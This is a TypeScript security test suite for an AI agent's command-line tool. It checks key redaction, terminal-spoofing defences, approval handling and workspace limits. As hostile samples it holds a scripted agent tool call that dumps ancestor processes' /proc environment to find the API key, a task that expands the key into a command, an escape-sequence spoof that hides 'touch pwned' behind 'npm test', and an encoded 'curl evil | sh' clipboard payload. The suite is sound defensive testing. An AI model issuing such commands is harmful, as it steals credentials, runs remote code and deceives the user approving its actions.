/**
 * The CLI against hostile input, as an attacker would try it: repositories that try to leak the
 * key, terminals that could be spoofed, servers with credentials in their URL, readers that go away.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, describe, test } from 'node:test';
import { CLI, runCli, runCliOnTerminal, TEST_STATE, scriptedRun } from '../support/cli';
import type { Script } from '../support/scriptedServer';
import { makeWorkspace, removeWorkspace } from '../support/workspace';

const cleanups: (() => unknown)[] = [];
after(async () => {
  for (const c of cleanups) await c();
});
const setup = (script: Script, files: Record<string, string> = {}) => scriptedRun(script, files, cleanups);
const finish = { toolCalls: [{ name: 'finish', arguments: { summary: 'done' } }] };
const KEY = 'sk-test-9f8e7d6c5b4a39281706f5e4d3c2b1a0';
const lines = (text: string) => text.trim().split('\n').filter(Boolean);
/** What the model and the user saw: request bodies (the headers carry the key, as they must), output. */
const everything = (server: { requests: { body?: unknown }[] }, ...texts: string[]) => JSON.stringify(server.requests.map((r) => r.body)) + texts.join('\n');

/** A command that prints the environment and command line of every ancestor process. */
const DUMP_ANCESTORS =
  'p=$PPID; while [ "$p" -gt 1 ]; do cat /proc/$p/environ /proc/$p/cmdline 2>/dev/null | tr "\\0" " "; echo; p=$(awk \'/^PPid:/ {print $2}\' /proc/$p/status); done';

describe('the API key never leaves through the workspace', { skip: process.platform !== 'linux' && 'reads /proc (Linux only)' }, () => {
  test('${env:OPENAI_API_KEY} in a repository task gets nothing: not in the output, the model request or the events', async () => {
    const tasks = {
      version: '2.0.0',
      tasks: [{ label: 'leak', type: 'shell', command: 'echo "cmd=${env:OPENAI_API_KEY}" "env=$K"', options: { env: { K: '${env:OPENAI_API_KEY}' } } }],
    };
    const { server, base } = await setup([{ toolCalls: [{ name: 'run_task', arguments: { name: 'leak' } }] }, finish], {
      '.vscode/tasks.json': JSON.stringify(tasks),
    });
    const result = await runCli([...base, '--approve', 'all', '--json', 'x'], { OPENAI_API_KEY: KEY });
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, /cmd= env=/);
    assert.doesNotMatch(everything(server, result.stdout, result.stderr), new RegExp(KEY));
  });

  test('a server error that echoes the key is shown redacted', async () => {
    const { server, base } = await setup(() => ({ status: 400, body: { error: { message: `Bad request for key ${KEY} (Bearer ${KEY})` } } }));
    const result = await runCli([...base, '--json', 'x'], { OPENAI_API_KEY: KEY });
    assert.equal(result.code, 1);
    assert.match(result.stderr, /\[redacted\]/);
    assert.doesNotMatch(result.stdout + result.stderr, new RegExp(KEY));
    assert.equal(server.chatRequests()[0]?.headers.authorization, `Bearer ${KEY}`, 'the server itself got the key');
  });

  for (const [how, args, env] of [
    ['OPENAI_API_KEY', [], { OPENAI_API_KEY: KEY, MY_COPY: KEY }],
    ['--api-key', ['--api-key', KEY], {}],
  ] as const) {
    test(`given with ${how}: a command finds it in no ancestor's /proc environ or command line`, async () => {
      const { server, base } = await setup([{ toolCalls: [{ name: 'run_command', arguments: { command: `env; ${DUMP_ANCESTORS}` } }] }, finish]);
      const result = await runCli([...base, ...args, '--approve', 'all', '--json', 'x'], env);
      assert.equal(result.code, 0, result.stderr);
      const output = JSON.parse(lines(result.stdout).find((l) => l.includes('"tool_result"')) ?? '{}').output as string;
      assert.match(output, /stepwise run/, 'the dump reached the CLI process');
      assert.doesNotMatch(output, /sk-test/);
      assert.equal(server.chatRequests()[0]?.headers.authorization, `Bearer ${KEY}`);
    });
  }

  test('--api-key-file: the key is read from the file and sent to the server; an unreadable file is a usage error', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'stepwise-key-'));
    cleanups.push(() => fs.rmSync(dir, { recursive: true, force: true }));
    fs.writeFileSync(path.join(dir, 'key'), `${KEY}\n`);
    const { server, base } = await setup([finish, finish]);
    const result = await runCli([...base, '--api-key-file', path.join(dir, 'key'), 'x']);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(server.chatRequests()[0]?.headers.authorization, `Bearer ${KEY}`);
    const viaEnv = await runCli([...base, 'x'], { STEPWISE_API_KEY_FILE: path.join(dir, 'key') });
    assert.equal(viaEnv.code, 0, viaEnv.stderr);
    assert.equal(server.chatRequests()[1]?.headers.authorization, `Bearer ${KEY}`);
    const missing = await runCli([...base, '--api-key-file', path.join(dir, 'nope'), 'x']);
    assert.equal(missing.code, 2);
    assert.deepEqual(lines(missing.stderr), [`stepwise: cannot read the API key file "${path.join(dir, 'nope')}" (ENOENT).`]);
    const both = await runCli([...base, '--api-key', KEY, '--api-key-file', path.join(dir, 'key'), 'x']);
    assert.equal(both.code, 2);
  });

  test('a base URL with a user name and password is refused at start-up, the password not printed', async () => {
    const { server } = await setup([finish]);
    const url = server.url.replace('http://', 'http://alice:s3cr3t-pass@');
    const result = await runCli(['run', '--base-url', url, '--model', 'm', 'x']);
    assert.equal(result.code, 2);
    assert.equal(lines(result.stderr).length, 1);
    assert.match(result.stderr, /user name or password/);
    assert.doesNotMatch(result.stderr + result.stdout, /s3cr3t-pass|alice/);
    assert.equal(server.requests.length, 0, 'nothing was sent');
  });
});

describe('the terminal shows what runs', () => {
  test('escape sequences in a command are shown, not obeyed, and the approval is for the real command', {
    skip: !hasScript() && 'needs util-linux script',
  }, async () => {
    const spoof = 'touch pwned-spoof.txt #\u001b[23D\u001b[K npm test';
    const { root, base } = await setup([
      { text: 'Copying \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 done', toolCalls: [{ name: 'run_command', arguments: { command: spoof } }] },
      { toolCalls: [{ name: 'run_command', arguments: { command: 'touch one\ntouch two' } }] },
      finish,
    ]);
    const result = await runCliOnTerminal([...base, 'x'], ['n', 'n']);
    assert.equal(result.code, 0, result.stdout);
    assert.ok(!result.stdout.includes('\u001b'), 'no escape character reached the terminal');
    assert.ok(!result.stdout.includes('\u0007'));
    assert.match(result.stdout, /\$ touch pwned-spoof\.txt #\\x1b\[23D\\x1b\[K npm test/);
    assert.match(result.stdout, /\\x1b\]52;c;/);
    assert.match(result.stdout, /\$ touch one\n\s+\$ touch two/);
    assert.match(result.stdout, /Allow\? /);
    assert.equal(fs.existsSync(path.join(root, 'pwned-spoof.txt')), false);
  });

  test('answers typed ahead (while a command runs) are thrown away: the next step waits for an answer typed after it is shown', {
    skip: !hasScript() && 'needs util-linux script',
  }, async () => {
    const { root, base } = await setup([
      { toolCalls: [{ name: 'run_command', arguments: { command: 'touch started.txt; while [ ! -f go.txt ]; do sleep 0.05; done' } }] },
      { toolCalls: [{ name: 'run_command', arguments: { command: 'touch typeahead-pwned.txt' } }] },
      finish,
    ]);
    const command = [process.execPath, CLI, ...base, 'x'].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
    const child = spawn('script', ['-qefc', command, '/dev/null'], {
      env: { PATH: process.env.PATH ?? '', HOME: os.tmpdir(), XDG_STATE_HOME: TEST_STATE, TERM: 'dumb', NO_COLOR: '1' },
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let out = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
    const prompts = () => out.split('Allow? ').length - 1;
    const closed = new Promise<number | null>((resolve) => child.on('close', resolve));
    await waitFor(() => prompts() === 1, 'the first question');
    child.stdin.write('y\n');
    await waitFor(() => fs.existsSync(path.join(root, 'started.txt')), 'the first command to run');
    child.stdin.write('y\ny\na\n'); // typed ahead, before the next question exists
    fs.writeFileSync(path.join(root, 'go.txt'), '');
    await waitFor(() => prompts() === 2, 'the second question');
    assert.equal(fs.existsSync(path.join(root, 'typeahead-pwned.txt')), false, 'nothing answered it yet');
    child.stdin.write('n\n');
    assert.equal(await closed, 0, out);
    assert.equal(fs.existsSync(path.join(root, 'typeahead-pwned.txt')), false);
  });

  test('JSON events carry C1 and bidi controls as \\u escapes', async () => {
    const { base } = await setup([{ text: 'a\u009b31mb\u202ec', toolCalls: [{ name: 'finish', arguments: { summary: 'x\u009by' } }] }]);
    const result = await runCli([...base, '--json', 'x']);
    assert.equal(result.code, 0, result.stderr);
    assert.ok(!/[\u0080-\u009f\u202e]/.test(result.stdout));
    const message = lines(result.stdout)
      .map((l) => JSON.parse(l))
      .find((e) => e.type === 'message');
    assert.equal(message.text, 'a\u009b31mb\u202ec', 'the text itself is unchanged for programs');
  });
});

describe('hostile servers and readers', () => {
  test('the reader of --json goes away (| head -n 1): the CLI stops quietly, without a stack trace, and kills its command', async () => {
    // A unique sleep, so the process is found by its own command line.
    const marker = `sleep ${100_000 + (process.pid % 100_000)}${Date.now() % 1000}`;
    const { root, base } = await setup([{ text: 'Starting.', toolCalls: [{ name: 'run_command', arguments: { command: `${marker}; echo after` } }] }, finish]);
    const errFile = path.join(root, '..', `${path.basename(root)}.err`);
    cleanups.push(() => fs.rmSync(errFile, { force: true }));
    const quoted = [process.execPath, CLI, ...base, '--approve', 'all', '--json', 'x'].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
    const code = await new Promise<number | null>((resolve) => {
      const child = spawn('sh', ['-c', `${quoted} 2>'${errFile}' | head -n 1; wait`], {
        env: { PATH: process.env.PATH ?? '', HOME: os.tmpdir(), XDG_STATE_HOME: TEST_STATE },
        stdio: 'ignore',
      });
      child.on('close', resolve);
    });
    assert.equal(code, 0);
    const stderr = fs.readFileSync(errFile, 'utf8');
    assert.doesNotMatch(stderr, /\n\s+at |EPIPE|internal error/, stderr);
    await waitFor(() => !processWithMarker(marker), 'the command to be killed');
  });

  test('a base URL whose host is "constructor" fails like any unreachable host', async () => {
    const root = makeWorkspace({});
    cleanups.push(() => removeWorkspace(root));
    for (const host of ['constructor', '__proto__', 'tostring']) {
      const result = await runCli(['run', '--workspace', root, '--base-url', `http://${host}:9/v1`, '--model', 'm', 'x']);
      assert.equal(result.code, 2, result.stderr);
      assert.doesNotMatch(result.stderr, /internal error/);
      assert.equal(lines(result.stderr).length, 1, result.stderr);
    }
  });

  test('a repository task with an outside cwd is refused before anything runs', async () => {
    const escaped = `escaped-${process.pid}-${Date.now()}.txt`;
    const tasks = { version: '2.0.0', tasks: [{ label: 'out', type: 'shell', command: `touch ${escaped}`, options: { cwd: '${workspaceFolder}/..' } }] };
    const { root, base } = await setup([{ toolCalls: [{ name: 'run_task', arguments: { name: 'out' } }] }, finish], {
      '.vscode/tasks.json': JSON.stringify(tasks),
    });
    const result = await runCli([...base, '--approve', 'all', '--json', 'x']);
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, /outside the workspace/);
    assert.equal(fs.existsSync(path.join(path.dirname(root), escaped)), false);
  });
});

function hasScript(): boolean {
  return fs.existsSync('/usr/bin/script') || fs.existsSync('/bin/script');
}

function processWithMarker(marker: string): boolean {
  for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    try {
      if (fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(marker)) return true;
    } catch {
      // gone
    }
  }
  return false;
}

async function waitFor(probe: () => boolean, what: string, timeoutMs = 20_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!probe()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}
